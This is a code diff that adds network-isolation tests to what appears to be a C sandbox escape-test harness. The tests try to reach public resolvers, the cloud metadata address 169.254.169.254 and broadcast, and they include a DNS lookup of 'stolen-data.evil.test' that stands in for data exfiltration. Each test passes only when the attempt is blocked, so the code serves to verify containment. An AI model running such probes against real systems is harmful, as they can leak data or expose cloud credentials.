@@ -4,6 +4,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <netdb.h>
 #include <netinet/in.h>
 #include <poll.h>
 #include <arpa/inet.h>
@@ -593,17 +594,54 @@ static void e31(void) {
     held("%ld fuzzers, seed %s", children, args[2]);
 }
 
+// Connecting a datagram socket asks only whether there is a way.
+static void must_have_no_way(const char *address, int port, int type) {
+    struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV, .ai_socktype = type}, *found;
+    char service[8];
+    snprintf(service, sizeof service, "%d", port);
+    if (getaddrinfo(address, service, &hints, &found)) return escape("%s is no address", address);
+    int out = socket(found->ai_family, type | SOCK_NONBLOCK, 0);
+    int result = connect(out, found->ai_addr, found->ai_addrlen);
+    if (result == 0 || errno == EINPROGRESS) escape("a way to %s, port %d", address, port);
+    else held("connect to %s, port %d: %s", address, port, strerror(errno));
+    close(out);
+    freeaddrinfo(found);
+}
+
+// args: an address that the host has a way to
+static void e33(void) {
+    must_have_no_way(args[0], 443, SOCK_STREAM);
+    must_have_no_way("1.1.1.1", 443, SOCK_STREAM);
+    must_have_no_way("8.8.8.8", 53, SOCK_DGRAM);
+    must_have_no_way("169.254.169.254", 80, SOCK_STREAM);
+    must_have_no_way("2606:4700:4700::1111", 443, SOCK_STREAM);
+    must_have_no_way("ff02::1", 53, SOCK_DGRAM);
+    must_fail("ICMP", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
+    struct sockaddr_in all = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = INADDR_BROADCAST};
+    int out = socket(AF_INET, SOCK_DGRAM, 0), yes = 1;
+    setsockopt(out, SOL_SOCKET, SO_BROADCAST, &yes, sizeof yes);
+    must_fail("broadcast", sendto(out, "x", 1, 0, (void *)&all, sizeof all));
+}
+
+// args: where the host's names would be asked for. A name that carries data is looked up in every way a
+// program has; the host's name server must not hear of it.
+static void e45(void) {
+    struct addrinfo *found;
+    int result = getaddrinfo("stolen-data.evil.test", "443", NULL, &found);
+    if (result == 0 || result == EAI_AGAIN) escape("a name server was asked: %s", gai_strerror(result));
+    else held("look a name up: %s", gai_strerror(result));
+    must_not_read("/etc/resolv.conf");
+    must_have_no_way(args[0], 53, SOCK_DGRAM);
+    must_have_no_way(args[0], 53, SOCK_STREAM);
+    must_have_no_way("1.1.1.1", 443, SOCK_STREAM);
+    must_have_no_way("8.8.8.8", 853, SOCK_STREAM);
+}
+
 // args: port on the host's loopback, an abstract name, a path
 static void e34(void) {
     struct sockaddr_in host = {.sin_family = AF_INET, .sin_port = htons(atoi(args[0]))};
     inet_pton(AF_INET, "127.0.0.1", &host.sin_addr);
     must_fail("connect to the host's loopback", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&host, sizeof host));
-    inet_pton(AF_INET, "1.1.1.1", &host.sin_addr);
-    host.sin_port = htons(443);
-    int out = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
-    int result = connect(out, (void *)&host, sizeof host);
-    if (result == 0 || errno == EINPROGRESS) escape("a way to 1.1.1.1");
-    else held("connect to 1.1.1.1: %s", strerror(errno));
     struct sockaddr_un local = {.sun_family = AF_UNIX};
     memcpy(local.sun_path + 1, args[1], strlen(args[1]));
     socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[1]);
@@ -730,7 +768,8 @@ int main(int count, char **values) {
     } rows[] = {{"E1", e1},   {"E2", e2},   {"E7", e7},   {"E8", e8},   {"E9", e9},   {"E10", e10}, {"E12", e12},
                 {"E13", e13}, {"E14", e14}, {"E15", e15}, {"E16", e16}, {"E17", e17}, {"E18", e18}, {"E19", e19},
                 {"E20", e20}, {"E21", e21}, {"E22", e22}, {"E23", e23}, {"E24", e24}, {"E25", e25}, {"E26", e26},
-                {"E27", e27}, {"E28", e28}, {"E29", e29}, {"E30", e30}, {"E31", e31}, {"E34", e34}, {"E56", e56},
+                {"E27", e27}, {"E28", e28}, {"E29", e29}, {"E30", e30}, {"E31", e31}, {"E33", e33}, {"E34", e34},
+                {"E45", e45}, {"E56", e56},
                 {"E57", e57}, {"E58", e58}};
     if (count == 2 && !strcmp(values[1], "euid")) return report_euid();
     while (count == 2 && !strcmp(values[1], "daemon")) pause();
